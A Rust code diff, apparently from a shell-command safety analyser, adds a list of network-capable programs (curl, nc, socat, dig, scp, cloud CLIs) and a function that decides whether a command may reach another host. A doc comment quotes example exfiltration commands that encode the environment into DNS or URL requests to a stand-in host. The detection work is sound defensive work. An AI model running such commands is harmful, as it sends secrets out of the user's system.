@@ -113,6 +113,64 @@ pub(super) fn nested(argv: &[Field], stdin: Option<&str>, budget: &Budget) -> Ve
     }
 }
 
+/// Programs that reach another host with what their arguments say: a substitution printing the
+/// environment there (`dig $(env | base32).x.example`, `git clone https://x/$(env | base64)`)
+/// sends it out, and a file they name may be sent (`curl -d @f`, `scp f h:`).
+pub(crate) const NETWORK_PROGRAMS: &[&str] = &[
+    "curl",
+    "wget",
+    "nc",
+    "ncat",
+    "netcat",
+    "socat",
+    "telnet",
+    "ssh",
+    "openssl",
+    "http",
+    "https",
+    "xh",
+    "aria2c",
+    "fetch",
+    "dig",
+    "nslookup",
+    "host",
+    "drill",
+    "ping",
+    "ping6",
+    "traceroute",
+    "git",
+    "gh",
+    "scp",
+    "sftp",
+    "rsync",
+    "ftp",
+    "lftp",
+    "pip",
+    "pip3",
+    "npm",
+    "mail",
+    "mailx",
+    "sendmail",
+    "aws",
+    "gsutil",
+    "gcloud",
+    "az",
+    "rclone",
+    "s3cmd",
+    "azcopy",
+];
+
+/// Whether `name ARGS` may reach another host: one of [`NETWORK_PROGRAMS`], but scp and rsync
+/// only with an operand on one (`scp a b` copies here).
+pub(crate) fn reaches_network(name: &str, args: &[String]) -> bool {
+    match name {
+        "scp" | "rsync" => args
+            .iter()
+            .any(|arg| !arg.starts_with('-') && !crate::argv::is_local_operand(arg)),
+        _ => NETWORK_PROGRAMS.contains(&name),
+    }
+}
+
 /// `text` as a script with this origin, or, when it holds a run-time expansion, as a script only
 /// known at run time.
 pub(super) fn script_or_dynamic(text: String, dynamic: bool, origin: Origin) -> Nested {
